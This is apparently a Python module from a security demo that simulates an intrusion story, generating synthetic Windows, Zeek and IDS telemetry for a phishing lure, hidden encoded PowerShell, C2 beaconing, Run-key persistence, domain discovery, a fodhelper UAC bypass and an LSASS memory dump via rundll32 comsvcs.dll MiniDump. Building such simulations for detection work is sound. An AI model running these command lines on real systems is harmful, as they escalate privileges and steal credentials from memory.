"""The first morning: the lure, the document, discovery, and the memory of the workstation."""

from __future__ import annotations

from vedette.demo.attack.story import C2_IP, DOCUMENT, MAIL_IP, SCRIPT, STAGE_PATH, Story
from vedette.demo.clock import MINUTE, SECOND
from vedette.demo.company import Host, Process, Session
from vedette.demo.everyday import deliver
from vedette.demo.formats import windows_events as ev
from vedette.demo.mail import LURE_DOMAIN, LURE_HOST, LURE_SENDER, Message
from vedette.demo.routines.agenda import POWERSHELL, encoded
from vedette.demo.scans.catalogue import MOTW
from vedette.demo.scene import SYSTEM32


def send_lure(story: Story) -> None:
    """Deliver the lure to six people."""
    s, t = story.scene, story.at(9, 38)
    recipients = [story.cast.victim, *story.cast.others]
    with story.step(
        t,
        "A mail lure with a macro document reached six people in Finance and HR",
        "T1566.001",
        s.company.host("mx01"),
        None,
        LURE_SENDER,
    ):
        for i, person in enumerate(recipients):
            message_id = f"refund-{i + 1:02d}@{LURE_HOST}"
            deliver(s, t + i * 3 * SECOND, LURE_SENDER, person.account.upn, LURE_HOST, MAIL_IP, 84_312, message_id)
            story.messages.append(Message(t + i * 3 * SECOND, LURE_SENDER, person, message_id, DOCUMENT))


def open_document(story: Story, ws: Host, desk: Session) -> Process:
    """Let the victim open it; return the hidden PowerShell that it started."""
    s, t, who = story.scene, story.at(9, 52), story.cast.victim.account
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    path = (
        f"C:\\Users\\{who.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2XN4B\\{DOCUMENT}"
    )
    with story.step(t, "The victim opened the document from the mail client", "T1204.002", ws, who.qualified, DOCUMENT):
        outlook = s.start(
            ws, t - 20 * SECOND, f"{office}OUTLOOK.EXE", f'"{office}OUTLOOK.EXE"', desk.desktop, desk, terminal=1
        )
        s.create_file(ws, t, outlook, path)
        word = s.start(
            ws,
            t + SECOND,
            f"{office}WINWORD.EXE",
            f'"{office}WINWORD.EXE" /n "{path}" /o ""',
            outlook,
            desk,
            terminal=1,
        )
    t += 21 * SECOND
    command = f'"{POWERSHELL}" -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded(SCRIPT)}'
    with story.step(
        t,
        "Word started a hidden PowerShell with an encoded command",
        "T1059.001 T1027.010 T1564.003",
        ws,
        who.qualified,
        encoded(SCRIPT)[:48],
    ):
        implant = s.start(
            ws, t, POWERSHELL, command, word, desk, folder=f"C:\\Users\\{who.name}\\Documents\\", terminal=1
        )
        s.script(ws, t + 2 * SECOND, SCRIPT, who.sid)
    t += 4 * SECOND
    with story.step(
        t,
        "The script fetched its text from the intruder's web server",
        "T1105 T1071.001",
        ws,
        who.qualified,
        STAGE_PATH,
    ):
        s.resolve(ws, t, implant, f"cdn.{LURE_DOMAIN}", C2_IP)
        ids = s.connect(ws, t + 60_000, implant, C2_IP, 80, service="http", seconds=0.8, sent=310, received=48_200)
        s.zeek.http(t + 120_000, ids, "GET", f"cdn.{LURE_DOMAIN}", STAGE_PATH, "-", 200, 47_811, mime="text/plain")
        port = int(ids.split("\t")[2])
        flow = s.web.alert(
            t + 300_000,
            (C2_IP, 80),
            (ws.ip, port),
            2027117,
            "ET HUNTING Base64 Text Over HTTP To Office Child Process",
            "Potentially Bad Traffic",
            2,
        )
        # The same flow, and no draw: what happens elsewhere does not depend on what the sensor says.
        s.web.alert(
            t + 310_000,
            (C2_IP, 80),
            (ws.ip, port),
            9041091,
            f"Payload of a Document without Mark of the Web Retrieved ({MOTW})",
            "Attempted User Privilege Gain",
            1,
            flow_id=flow,
        )
    t += 30 * SECOND
    key = f"HKU\\{who.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\FreightHelper"
    with story.step(
        t, "A Run key was set so that the script starts at logon", "T1547.001", ws, who.qualified, "FreightHelper"
    ):
        s.set_value(ws, t, implant, key, f"{POWERSHELL} -W Hidden -Enc {encoded(SCRIPT)}")
    with story.step(
        t + MINUTE,
        "The script called home every five minutes or so until the evening",
        "T1071.001 T1573",
        ws,
        who.qualified,
        C2_IP,
    ):
        at = t + MINUTE
        while at < story.at(21, 30):
            ids = s.connect(ws, at, implant, C2_IP, 443, service="ssl", seconds=0.7, sent=1180, received=860)
            s.zeek.ssl(at + 30_000, ids, f"cdn.{LURE_DOMAIN}")
            at += int((285 + s.rng.random() * 30) * SECOND)
    return implant


def discover(story: Story, ws: Host, desk: Session, implant: Process) -> None:
    """Look around: accounts, groups, host, domain."""
    s, t, who = story.scene, story.at(10, 5), story.cast.victim.account
    dc = s.dcs[0]
    with story.step(
        t,
        "Account, group, host and domain discovery",
        "T1033 T1087.002 T1069.002 T1082 T1482 T1018",
        ws,
        who.qualified,
        "nltest /dclist",
    ):
        cmd = s.start(ws, t, f"{SYSTEM32}cmd.exe", f'"{SYSTEM32}cmd.exe"', implant, desk, terminal=1)
        plan = (
            ("whoami.exe", "whoami /all"),
            ("systeminfo.exe", "systeminfo"),
            ("net.exe", 'net group "Domain Admins" /domain'),
            ("nltest.exe", "nltest /dclist:corp.alderfinch.example"),
            ("nltest.exe", "nltest /domain_trusts"),
            ("net.exe", "net view /domain:ALDERFINCH"),
            ("net.exe", "net localgroup administrators"),
        )
        for i, (image, command) in enumerate(plan):
            at = t + (14 + 23 * i) * SECOND
            child = s.start(ws, at, SYSTEM32 + image, command, cmd, desk, terminal=1)
            if image == "net.exe" and "/domain" in command:
                s.start(
                    ws,
                    at + 60_000,
                    f"{SYSTEM32}net1.exe",
                    command.replace("net ", "net1 ", 1),
                    child,
                    desk,
                    terminal=1,
                )
                ids = s.connect(ws, at + 90_000, None, dc.ip, 445, service="gssapi,smb,dce_rpc", seconds=1.0)
                s.zeek.rpc(at + 120_000, ids, "\\pipe\\lsass", "samr", "SamrGetMembersInGroup")
            s.end(ws, at + SECOND, child)


def helper_visits(story: Story, ws: Host) -> None:
    """Benign, and the reason why the helper's credentials lay in the workstation's memory."""
    s, t, helper = story.scene, story.at(10, 31), story.cast.helper
    source = s.company.host("MGMT01") if helper.person is None else helper.person.workstation
    port = s.port()
    s.zeek.conn(
        t - SECOND, (source.ip, port), (ws.ip, 3389), service="ssl", seconds=1100.0, sent=80_000, received=1_900_000
    )
    session = s.logon(ws, t, helper, 10, source, port=port, service="TERMSRV")
    s.begin_desktop(session, t + SECOND)
    s.start(
        ws,
        t + 50 * SECOND,
        f"{SYSTEM32}mmc.exe",
        f'"{SYSTEM32}mmc.exe" {SYSTEM32}printmanagement.msc',
        session.desktop,
        session,
        level="High",
        terminal=2,
    )
    s.logoff(session, t + 45 * MINUTE)


def dump_memory(story: Story, ws: Host, desk: Session, implant: Process) -> Process:
    """Rise above user account control, then dump LSASS; return the elevated PowerShell."""
    s, t, who = story.scene, story.at(10, 44), story.cast.victim.account
    lsass = ws.services["lsass"]
    with story.step(
        t, "User account control was bypassed through fodhelper", "T1548.002", ws, who.qualified, "ms-settings"
    ):
        key = f"HKU\\{who.sid}_Classes\\ms-settings\\shell\\open\\command\\"
        s.set_value(ws, t, implant, key + "DelegateExecute", "(Empty)")
        s.set_value(ws, t + 90_000, implant, key + "(Default)", f"{POWERSHELL} -NoP -W Hidden")
        fod = s.start(
            ws,
            t + SECOND,
            f"{SYSTEM32}fodhelper.exe",
            f'"{SYSTEM32}fodhelper.exe"',
            implant,
            desk,
            level="High",
            terminal=1,
        )
        elevated = s.start(
            ws, t + 2 * SECOND, POWERSHELL, f"{POWERSHELL} -NoP -W Hidden", fod, desk, level="High", terminal=1
        )
    t = story.at(10, 46)
    dump = "C:\\Users\\Public\\Documents\\spool.dmp"
    rundll, dll = f"{SYSTEM32}rundll32.exe", f"{SYSTEM32}comsvcs.dll"
    trace = (
        f"{SYSTEM32}ntdll.dll+9c534|{SYSTEM32}KERNELBASE.dll+2b8ce|{SYSTEM32}dbgcore.DLL+6e36|{dll}+2b2d8|"
        "UNKNOWN(0000000000000000)"
    )
    with story.step(
        t, "LSASS memory was dumped with rundll32 and comsvcs.dll", "T1003.001 T1218.011", ws, who.qualified, dump
    ):
        text = f"rundll32.exe {dll}, MiniDump (Get-Process lsass).Id {dump} full"
        s.script(ws, t - SECOND, text, who.sid)
        proc = s.start(
            ws,
            t,
            rundll,
            f'"{rundll}" {dll} MiniDump {lsass.pid} {dump} full',
            elevated,
            desk,
            level="High",
            terminal=1,
        )
        s.windows.write(ws, t + 100_000, ev.K7, ev.sysmon_7(ws, t + 100_000, proc, f"{SYSTEM32}dbgcore.dll"))
        handle = 0x5E8
        target = "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe"
        s.windows.write(
            ws,
            t + 140_000,
            ev.K4656,
            ev.handle_4656(ws, who, desk.logon_id, proc, target, 0x1FFFFF, handle, opened=True),
        )
        s.access(ws, t + 141_000, proc, lsass, 0x1FFFFF, trace)
        s.windows.write(
            ws,
            t + 150_000,
            ev.K4663,
            ev.handle_4656(ws, who, desk.logon_id, proc, target, 0x10, handle, opened=False),
        )
        s.create_file(ws, t + 200_000, proc, dump)
        s.end(ws, t + 900_000, proc)
    return elevated
